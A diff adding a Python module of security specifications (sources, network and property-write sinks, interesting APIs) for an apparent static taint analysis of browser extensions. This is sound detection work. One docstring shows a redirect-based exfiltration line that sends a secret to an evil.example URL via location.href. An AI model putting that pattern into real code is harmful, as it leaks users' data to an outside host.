@@ -1,0 +1,225 @@
+"""Security specifications: which sources, sinks, and APIs are
+"interesting" (Section 4.1).
+
+The set is an input to the analysis ("in our implementation we have used
+the sources, sinks, and APIs considered interesting by the Mozilla
+vetting team ... but they are easily configurable"). A
+:class:`SecuritySpec` bundles:
+
+- **sources** — matchers that recognize the IR statements *reading* an
+  interesting value (e.g. a property read of ``location.href`` on the
+  browser-window stub, a key-event property on the event object);
+- **sinks** — matchers for statements sending data out (e.g. the
+  ``xhr.send`` native call), optionally extracting the network domain
+  (as a prefix-domain element) from the analysis state;
+- **apis** — native tags whose *usage* should be reported regardless of
+  what flows into them (script loaders, ``eval``-family, deprecated
+  APIs).
+
+The concrete Mozilla-flavored spec lives in :mod:`repro.browser.env`;
+these classes are environment-agnostic.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.analysis.interpreter import AnalysisResult
+from repro.domains import prefix as prefix_domain
+from repro.domains.prefix import Prefix
+from repro.ir.nodes import CallStmt, ConstructStmt, LoadPropStmt
+
+
+@dataclass(frozen=True)
+class PropertySource:
+    """A source matched by reading property ``prop`` of an object whose
+    heap representation carries native tag ``object_tag``."""
+
+    name: str
+    object_tag: str
+    props: frozenset[str]
+
+    def matching_statements(self, result: AnalysisResult) -> set[int]:
+        matches: set[int] = set()
+        for (sid, context), state in result.states.items():
+            stmt = result.program.stmts[sid]
+            if not isinstance(stmt, LoadPropStmt):
+                continue
+            base = result.atom_value(sid, context, stmt.obj)
+            name = result.atom_value(sid, context, stmt.prop).to_property_name()
+            if not any(name.admits(prop) for prop in self.props):
+                continue
+            for address in base.addresses:
+                if (
+                    state.heap.contains(address)
+                    and state.heap.get(address).native == self.object_tag
+                ):
+                    matches.add(sid)
+                    break
+        return matches
+
+
+@dataclass(frozen=True)
+class CallSource:
+    """A source matched by calling a native with one of the given tags
+    (e.g. a clipboard-read API)."""
+
+    name: str
+    tags: frozenset[str]
+
+    def matching_statements(self, result: AnalysisResult) -> set[int]:
+        matches: set[int] = set()
+        for (sid, _context) in result.states:
+            stmt = result.program.stmts[sid]
+            if isinstance(stmt, (CallStmt, ConstructStmt)):
+                if result.callee_native_tags(sid) & self.tags:
+                    matches.add(sid)
+        return matches
+
+
+SourceSpec = PropertySource | CallSource
+
+
+@dataclass(frozen=True)
+class DomainRule:
+    """How to recover the network domain at a sink call.
+
+    ``kind`` is ``"arg"`` (the domain is the string value of argument
+    ``arg_index`` — e.g. ``xhr.open(method, url)``) or ``"this_prop"``
+    (the domain was stashed on the receiver by an earlier stub — e.g.
+    ``xhr.send()`` reads the URL recorded by ``open``).
+    """
+
+    kind: str
+    arg_index: int = 0
+    prop: str = "%url"
+
+
+@dataclass(frozen=True)
+class NetworkSink:
+    """A network-send sink: calls to natives carrying one of the rule
+    tags. The transmitted domain is recovered per the tag's rule as a
+    prefix-domain element — the ``Pre`` parameter of ``send(Pre)`` in the
+    signature grammar of Figure 3."""
+
+    name: str
+    rules: tuple[tuple[str, DomainRule], ...]
+
+    def tag_rules(self) -> dict[str, DomainRule]:
+        return dict(self.rules)
+
+    def matching_statements(self, result: AnalysisResult) -> dict[int, Prefix]:
+        """sink statement id -> inferred network domain."""
+        rules = self.tag_rules()
+        matches: dict[int, Prefix] = {}
+        for (sid, context), state in result.states.items():
+            stmt = result.program.stmts[sid]
+            if not isinstance(stmt, (CallStmt, ConstructStmt)):
+                continue
+            callee = result.atom_value(sid, context, stmt.callee)
+            hit_rules = []
+            for address in callee.addresses:
+                if not state.heap.contains(address):
+                    continue
+                tag = state.heap.get(address).native
+                if tag in rules:
+                    hit_rules.append(rules[tag])
+            if not hit_rules:
+                continue
+            domain = matches.get(sid, prefix_domain.BOTTOM)
+            for rule in hit_rules:
+                domain = domain.join(self._extract(result, state, stmt, sid, context, rule))
+            matches[sid] = domain
+        return matches
+
+    @staticmethod
+    def _extract(result, state, stmt, sid, context, rule: DomainRule) -> Prefix:
+        if rule.kind == "arg":
+            if rule.arg_index < len(stmt.args):
+                value = result.atom_value(sid, context, stmt.args[rule.arg_index])
+                return value.to_property_name()
+            return prefix_domain.BOTTOM
+        assert rule.kind == "this_prop"
+        if isinstance(stmt, ConstructStmt) or stmt.this is None:
+            return prefix_domain.BOTTOM
+        receiver = result.atom_value(sid, context, stmt.this)
+        if not receiver.addresses:
+            return prefix_domain.BOTTOM
+        return state.heap.read(
+            receiver.addresses, prefix_domain.exact(rule.prop)
+        ).string
+
+
+@dataclass(frozen=True)
+class PropertyWriteSink:
+    """A sink matched by *writing* a property of a tagged native object.
+
+    The canonical instance is redirect-based exfiltration: assigning
+    ``content.location.href = "https://evil.example/?u=" + secret``
+    sends the secret over the network without any XHR — a channel the
+    call-based ``send`` sink cannot see. The written value's string part
+    doubles as the network domain (a prefix-domain element).
+    """
+
+    name: str
+    object_tag: str
+    props: frozenset[str]
+
+    def matching_statements(self, result: AnalysisResult) -> dict[int, Prefix]:
+        from repro.ir.nodes import StorePropStmt
+
+        matches: dict[int, Prefix] = {}
+        for (sid, context), state in result.states.items():
+            stmt = result.program.stmts[sid]
+            if not isinstance(stmt, StorePropStmt):
+                continue
+            name = result.atom_value(sid, context, stmt.prop).to_property_name()
+            if not any(name.admits(prop) for prop in self.props):
+                continue
+            base = result.atom_value(sid, context, stmt.obj)
+            hit = any(
+                state.heap.contains(address)
+                and state.heap.get(address).native == self.object_tag
+                for address in base.addresses
+            )
+            if not hit:
+                continue
+            domain = result.atom_value(sid, context, stmt.value).to_property_name()
+            previous = matches.get(sid, prefix_domain.BOTTOM)
+            matches[sid] = previous.join(domain)
+        return matches
+
+
+@dataclass(frozen=True)
+class ApiSink:
+    """An interesting-API sink: any call of a native with these tags is
+    reported (script injection, deprecated APIs, ...)."""
+
+    name: str
+    tags: frozenset[str]
+
+    def matching_statements(self, result: AnalysisResult) -> set[int]:
+        matches: set[int] = set()
+        for (sid, _context) in result.states:
+            stmt = result.program.stmts[sid]
+            if isinstance(stmt, (CallStmt, ConstructStmt)):
+                if result.callee_native_tags(sid) & self.tags:
+                    matches.add(sid)
+        return matches
+
+
+#: Anything usable as a data-carrying sink: exposes
+#: ``matching_statements(result) -> dict[sid, Prefix]``.
+SinkSpec = NetworkSink | PropertyWriteSink
+
+
+@dataclass
+class SecuritySpec:
+    """The full "interesting things" configuration."""
+
+    sources: list[SourceSpec] = field(default_factory=list)
+    sinks: list[SinkSpec] = field(default_factory=list)
+    apis: list[ApiSink] = field(default_factory=list)
+
+    def source_names(self) -> list[str]:
+        return [source.name for source in self.sources]
